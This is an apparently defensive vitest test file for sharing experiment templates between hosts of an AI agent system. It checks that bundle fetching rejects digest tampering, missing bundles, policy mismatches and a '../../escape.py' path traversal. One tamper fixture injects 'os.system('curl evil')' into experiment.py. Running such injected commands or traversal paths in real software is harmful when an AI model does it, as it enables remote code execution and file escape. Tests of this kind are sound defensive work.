import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import {
  ArtifactStore,
  deterministicId,
  ensureRunStream,
  newRunId,
  publishEnvelope,
  type Envelope,
} from "../../bus/index.ts";
import { loadConfig } from "../../config/index.ts";
import { builtinRoles } from "../roles/index.ts";
import { readWorkspace } from "../../templates/index.ts";
import { useTestBus } from "../../tests/support/nats.ts";
import { fastTemplate } from "../../tests/support/fast-template.ts";
import { bootRoles } from "./boot.ts";
import { hostRolesForRun } from "./agent-process.ts";
import { silentLogger } from "./logger.ts";
import { fetchTemplate, sha256, shareTemplate, type TemplateBundleRef } from "./template-share.ts";

const fresh = (prefix: string) => mkdtempSync(join(tmpdir(), prefix));

/** A template copy with a binary data file, a nested file and a baseline result, all of which must travel. */
function richTemplate(): string {
  const dir = fastTemplate(5);
  mkdirSync(join(dir, "data"), { recursive: true });
  writeFileSync(join(dir, "data", "blob.bin"), Uint8Array.from([0, 255, 1, 254, 7]));
  mkdirSync(join(dir, "run_0"), { recursive: true });
  writeFileSync(join(dir, "run_0", "final_info.json"), JSON.stringify({ d: { means: { val_acc: 0.5 } } }));
  return dir;
}

function started(run: string, payload: Record<string, unknown>): Envelope {
  return {
    id: deterministicId(null, "run.started", 0, run),
    type: "run.started",
    run,
    from: "cli/test",
    causation: null,
    correlation: run,
    at: new Date().toISOString(),
    v: 1,
    payload,
  };
}

describe("template bundle through the object store", () => {
  const t = useTestBus();

  it("gives the joining host the run owner's files byte for byte, in its own folder", async () => {
    const run = newRunId();
    const source = richTemplate();
    const ref = await shareTemplate(new ArtifactStore(t.bus.objm, run, null), source);
    expect(ref.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
    const work = fresh("sci-share-");
    const dir = await fetchTemplate(new ArtifactStore(t.bus.objm, run, null), ref, work);
    expect(dir).toBe(join(work, "mlp-dynamics"));
    const [a, b] = await Promise.all([readWorkspace(source), readWorkspace(dir)]);
    expect(Object.keys(b.workspace).sort()).toEqual(Object.keys(a.workspace).sort());
    for (const [rel, bytes] of Object.entries(a.workspace))
      expect(Buffer.from(b.workspace[rel]!).equals(Buffer.from(bytes))).toBe(true);
    expect(readFileSync(join(dir, "data", "blob.bin"))).toEqual(Buffer.from([0, 255, 1, 254, 7]));
    expect(JSON.parse(readFileSync(join(dir, "run_0", "final_info.json"), "utf8"))).toEqual({
      d: { means: { val_acc: 0.5 } },
    });
    expect(ref.files).toBe(Object.keys(a.workspace).length + 1);
  });

  it("refuses a bundle whose bytes are not the digest run.started names", async () => {
    const run = newRunId();
    const artifacts = new ArtifactStore(t.bus.objm, run, null);
    const ref = await shareTemplate(artifacts, fastTemplate(5));
    // Someone replaces the bundle after run.started named its digest.
    const tampered = JSON.parse(new TextDecoder().decode(await artifacts.get(ref.artifact))) as {
      files: Record<string, string>;
    };
    tampered.files["experiment.py"] = Buffer.from("import os; os.system('curl evil')\n").toString("base64");
    await artifacts.put(ref.artifact, JSON.stringify(tampered));
    await expect(fetchTemplate(artifacts, ref, fresh("sci-share-"))).rejects.toMatchObject({
      code: "RUNTIME_TEMPLATE_DIGEST",
      message: expect.stringContaining(ref.digest),
    });
  });

  it("refuses a bundle with a path that leaves its folder, and a missing one", async () => {
    const run = newRunId();
    const artifacts = new ArtifactStore(t.bus.objm, run, null);
    const bytes = new TextEncoder().encode(
      JSON.stringify({ format: "scientist-template-bundle/1", folder: "t", files: { "../../escape.py": "eA==" } }),
    );
    await artifacts.put("_template/t.bundle.json", bytes);
    const ref: TemplateBundleRef = {
      artifact: "_template/t.bundle.json",
      digest: sha256(bytes),
      bytes: bytes.length,
      files: 1,
    };
    const work = fresh("sci-share-");
    await expect(fetchTemplate(artifacts, ref, work)).rejects.toMatchObject({ code: "BUS_ARTIFACT_BAD_NAME" });
    await expect(
      fetchTemplate(artifacts, { ...ref, artifact: "_template/none.bundle.json" }, work),
    ).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_BUNDLE" });
  });

  it("scientist agent waits for run.started and refuses a tampered template, another policy, no bundle, no run", async () => {
    const config = loadConfig({
      env: {},
      overrides: { natsUrl: t.url },
      raw: { run: { out: fresh("sci-share-out-") } },
    });
    const { registry } = await bootRoles(config, builtinRoles);
    const join_ = (run: string, policy?: "rules" | "llm", startWaitMs = 60_000) =>
      hostRolesForRun({
        config,
        registry,
        run,
        roles: ["writer"],
        natsUrl: t.url,
        logger: silentLogger,
        signal: new AbortController().signal,
        startWaitMs,
        ...(policy && { policy }),
      });
    const base = { template: "mlp-dynamics", policy: "rules", ideas: 1, maxInFlightIdeas: 1, settings: {} };

    // Joined before the owner published run.started: the agent waits for it, then checks the bundle.
    const tampered = newRunId();
    await ensureRunStream(t.bus.jsm, tampered);
    const ref = await shareTemplate(new ArtifactStore(t.bus.objm, tampered, null), fastTemplate(5));
    const joining = join_(tampered);
    await publishEnvelope(
      t.bus.js,
      started(tampered, { ...base, templateBundle: { ...ref, digest: sha256(new Uint8Array([1])) } }),
    );
    await expect(joining).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_DIGEST" });

    await expect(join_(newRunId())).rejects.toMatchObject({
      code: "RUNTIME_RUN_NOT_FOUND",
      message: expect.stringContaining("no run"),
    });
    const silent = newRunId();
    await ensureRunStream(t.bus.jsm, silent);
    await expect(join_(silent, undefined, 300)).rejects.toMatchObject({
      code: "RUNTIME_RUN_NOT_FOUND",
      message: expect.stringContaining("no run.started"),
    });

    const llm = newRunId();
    await ensureRunStream(t.bus.jsm, llm);
    await publishEnvelope(t.bus.js, started(llm, { ...base, policy: "llm", templateBundle: ref }));
    await expect(join_(llm, "rules")).rejects.toMatchObject({ code: "RUNTIME_POLICY_MISMATCH" });

    const old = newRunId();
    await ensureRunStream(t.bus.jsm, old);
    await publishEnvelope(t.bus.js, started(old, base));
    await expect(join_(old)).rejects.toMatchObject({ code: "RUNTIME_TEMPLATE_BUNDLE" });
  });
});
